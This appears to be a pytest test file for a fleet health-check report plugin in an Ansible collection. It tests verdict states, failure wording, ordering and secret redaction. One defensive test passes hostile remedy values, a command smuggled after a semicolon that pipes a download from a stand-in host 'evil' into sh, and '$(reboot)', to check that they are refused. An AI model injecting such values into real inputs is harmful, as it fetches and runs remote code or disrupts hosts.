# SPDX-License-Identifier: GPL-3.0-or-later
"""No strange result becomes a green host, and the run fails exactly when it should."""

from __future__ import annotations

import typing as t

import pytest
from ansible_collections.vendhub.ops.plugins.module_utils._core.verdict import State
from ansible_collections.vendhub.ops.plugins.plugin_utils._report import words

from tests.reports import BROKEN, UNREACHABLE, entry, finding, report, result


@pytest.mark.parametrize(("left", "state", "answered"), [
    (UNREACHABLE, "unknown", False),
    (BROKEN, "unknown", False),
    (None, "unknown", False),
    ("rubbish", "unknown", False),
    ({}, "unknown", False),
    ({"state": "excellent"}, "unknown", False),
    ({"state": "critical", "failed": True, "msg": "past its limit"}, "critical", True),
    ({"state": "critical", "findings": [finding(state="ok")]}, "critical", True),
    (result(), "ok", True),
    (result(finding(state="warning")), "warning", True),
    (result(finding(state="nonsense") | {"state": "ok"}, finding(state="unknown")), "unknown", True),
    ({"state": "ok", "findings": [{"state": "strange"}, 7, None]}, "unknown", True),
    ({"state": "ok", "findings": [finding()], "checks": [{"check": "redis", "state": "critical"}]}, "critical", True),
])
def test_a_host_is_as_bad_as_anything_it_said(left: t.Any, state: str, answered: bool) -> None:
    (host,) = report({"web1": left}).hosts
    assert (str(host.state), host.answered) == (state, answered)
    assert host.entries


def test_an_unreachable_host_says_why() -> None:
    fleet = report({"web1": UNREACHABLE})
    assert "No route to host" in entry(fleet, "host_reachable")["message"]


@pytest.mark.parametrize(("results", "never", "warning", "critical"), [
    ({"a": result()}, False, False, False),
    ({"a": result(finding(state="warning"))}, False, True, False),
    ({"a": result(finding(state="unknown"))}, False, True, False),
    ({"a": result(finding(state="critical"))}, False, True, True),
    ({"a": result(), "b": UNREACHABLE}, False, True, True),
    ({"a": result(), "b": BROKEN}, False, True, True),
    ({"a": result(), "b": None}, False, True, True),
    ({}, False, True, True),
])
def test_the_run_fails_as_asked(results: dict[str, t.Any], never: bool, warning: bool, critical: bool) -> None:
    fleet = report(results)
    assert [bool(words.failure(fleet, fail_on)) for fail_on in ("never", "warning", "critical")] \
        == [never, warning, critical]


def test_the_failure_names_hosts_and_reasons() -> None:
    fleet = report({"web1": result(finding(state="critical")), "web2": UNREACHABLE, "web3": result()})
    assert words.failure(fleet, "critical") == \
        "2 of 3 hosts failed the check: no verdict from web2; critical on web1"


@pytest.mark.parametrize(("results", "said"), [
    ({}, "No host was looked at"),
    ({"a": result()}, "a is healthy"),
    ({"a": result(), "b": result()}, "All 2 hosts are healthy"),
    ({"a": result(), "b": UNREACHABLE}, "1 of 2 hosts could not be judged"),
    ({"a": result(finding(state="warning")), "b": result(), "c": result()}, "1 of 3 hosts has a warning"),
    ({"a": result(finding(state="critical")), "b": result(finding(state="critical"))}, "All 2 hosts are critical"),
])
def test_headline(results: dict[str, t.Any], said: str) -> None:
    assert words.headline(report(results)) == said


def test_hosts_and_findings_are_worst_first() -> None:
    fleet = report({
        "a": result(), "b": result(finding("x", "warning"), finding("y", "critical")), "c": UNREACHABLE,
    })
    assert [host.name for host in fleet.hosts] == ["b", "c", "a"]
    assert [one.state for host, one in fleet.bad()] == [State.CRITICAL, State.UNKNOWN, State.WARNING]


@pytest.mark.parametrize(("remedy", "shown"), [
    ("vendhub.ops.free_disk", "vendhub.ops.free_disk"),
    ("vendhub.ops.free_disk; curl evil | sh", None),
    ("$(reboot)", None),
    (["vendhub.ops.free_disk"], None),
])
def test_only_the_name_of_a_playbook_becomes_a_command_to_paste(remedy: t.Any, shown: str | None) -> None:
    fleet = report({"web1": result(finding(state="warning", remedy=remedy))})
    assert entry(fleet, "disk_percent").get("remedy") == shown


def test_secrets_are_hidden_once_more() -> None:
    fleet = report({"web1": result(finding(
        state="warning", message="login with password=hunter2secret refused", value="postgres://u:hunter2secret@db/x",
        details=[{"token": "hunter2secret", "sample": "Authorization: Bearer hunter2secret", "count": 3}]))})
    said = str(entry(fleet, "disk_percent"))
    assert "hunter2secret" not in said
    assert "'count': 3" in said
